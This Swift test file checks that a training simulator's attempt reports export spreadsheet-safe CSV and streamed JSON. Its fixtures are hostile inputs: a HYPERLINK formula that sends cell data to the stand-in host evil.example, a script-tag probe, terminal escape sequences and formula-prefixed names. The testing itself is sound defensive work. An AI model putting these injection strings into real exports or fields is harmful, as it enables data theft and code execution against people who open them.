import Foundation
import SupportSimCore
import SupportSimStore
import Testing
@testable import SupportSimReport

private let date = Date(timeIntervalSince1970: 1_793_000_000)

private func record(id: Int64, trainee: String, title: String = "Printer offline", correctness: Int? = 80) -> AttemptRecord {
    AttemptRecord(
        id: id, trainee: trainee, scenarioID: "printer-offline", scenarioTitle: title, language: .en, mode: .practice,
        seed: 7, startedAt: date, endedAt: date.addingTimeInterval(600), status: .completed, ending: .resolved,
        correctness: correctness, politeness: 90, total: 85, passMark: 80, passed: true, turnCount: 4)
}

private let hostile = [
    record(id: 1, trainee: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
    record(id: 2, trainee: "ann\nbob", title: "line one\r\nline two"),
    record(id: 3, trainee: "<script>alert(1)</script>"),
    record(id: 4, trainee: "\u{1B}[31mred\u{1B}[0m\u{1B}]8;;http://x\u{07}link\u{1B}]8;;\u{07}"),
    record(id: 5, trainee: "+1", title: "@SUM(A1)"),
    record(id: 6, trainee: "-5", correctness: -5),
    record(id: 7, trainee: "\t=1+1"),
    record(id: 8, trainee: "  =1+1"),
    record(id: 9, trainee: "＝1+1"),
]

/// The cells of CSV text, parsed as RFC 4180 (quoted fields may hold commas, quotes and line breaks).
private func cells(_ csv: String) -> [[String]] {
    var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false
    var scalars = Array(csv.unicodeScalars)[...]
    if scalars.first == "\u{FEFF}" { scalars = scalars.dropFirst() }
    while let c = scalars.popFirst() {
        if quoted {
            if c == "\"" {
                if scalars.first == "\"" { cell.unicodeScalars.append("\""); scalars = scalars.dropFirst() } else { quoted = false }
            } else {
                cell.unicodeScalars.append(c)
            }
        } else if c == "\"" {
            quoted = true
        } else if c == "," {
            row.append(cell); cell = ""
        } else if c == "\r", scalars.first == "\n" {
            scalars = scalars.dropFirst(); row.append(cell); rows.append(row); row = []; cell = ""
        } else {
            cell.unicodeScalars.append(c)
        }
    }
    return rows
}

@Suite("Report: spreadsheet-safe CSV and streamed JSON")
struct SpreadsheetSafeCSVTests {
    @Test("Given hostile trainee names, when written as CSV, then it starts with a BOM, formulas are text, line breaks are quoted and no escape is left")
    func hostileNames() throws {
        let csv = AttemptsReport(attempts: hostile).render(.csv)
        #expect(csv.hasPrefix("\u{FEFF}id,trainee,"))
        #expect(!csv.unicodeScalars.contains { $0 != "\r" && $0 != "\n" && TerminalText.isNeutralised($0) })
        let table = cells(csv)
        #expect(table.count == hostile.count + 1)
        let trainee = Dictionary(uniqueKeysWithValues: table.dropFirst().map { ($0[0], $0[1]) })
        #expect(trainee["1"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")
        #expect(trainee["2"] == "ann\nbob")
        #expect(csv.contains("\"ann\nbob\""))
        #expect(table[2][3] == "line one\nline two")
        #expect(trainee["3"] == "<script>alert(1)</script>")
        #expect(trainee["4"] == "redlink")
        #expect(trainee["5"] == "'+1" && table[5][3] == "'@SUM(A1)")
        // A trainee named "-5" is text and guarded; our own numeric field holding -5 stays a number.
        #expect(trainee["6"] == "'-5" && table[6][12] == "-5")
        // A tab becomes a space; leading spaces and full-width signs do not hide a formula.
        #expect(trainee["7"] == "' =1+1")
        #expect(trainee["8"] == "'  =1+1")
        #expect(trainee["9"] == "'＝1+1")
    }

    @Test("Given attempts, when streamed row by row, then CSV and JSON match the whole rendering and NDJSON has one object a line")
    func streamedMatchesWhole() throws {
        let whole = AttemptsReport(attempts: hostile)
        #expect(AttemptsReport.stream(.csv, hostile.map { ($0, nil) }) == whole.render(.csv))
        let streamed = AttemptsReport.stream(.json, hostile.map { ($0, nil) })
        let a = try JSONSerialization.jsonObject(with: Data(streamed.utf8)) as? [[String: Any]]
        let b = try JSONSerialization.jsonObject(with: Data(whole.render(.json).utf8)) as? [[String: Any]]
        #expect(a.map { NSArray(array: $0) } == b.map { NSArray(array: $0) })
        #expect(streamed.hasPrefix("[\n  {\n"))
        #expect(AttemptsReport.stream(.json, []) == "[]\n")
        let ndjson = whole.render(.ndjson)
        let lines = ndjson.split(separator: "\n")
        #expect(lines.count == hostile.count && ndjson.hasSuffix("\n"))
        for (line, attempt) in zip(lines, hostile) {
            let object = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
            #expect(object["trainee"] as? String == attempt.trainee)
        }
        #expect(!ndjson.unicodeScalars.contains { $0 != "\n" && TerminalText.isNeutralised($0) })
    }

    @Test("Given a renderer, when rows are added one at a time, then each piece is written at once and the path is kept")
    func rowByRow() throws {
        var renderer = AttemptRowRenderer(.ndjson)
        #expect(renderer.header().isEmpty)
        let line = renderer.row(hostile[2], path: AttemptPath(nodes: ["a", "b"], finalNode: "b"))
        let object = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        #expect(object["path"] as? [String] == ["a", "b"] && object["final_node"] as? String == "b")
        #expect(renderer.footer().isEmpty)
    }
}
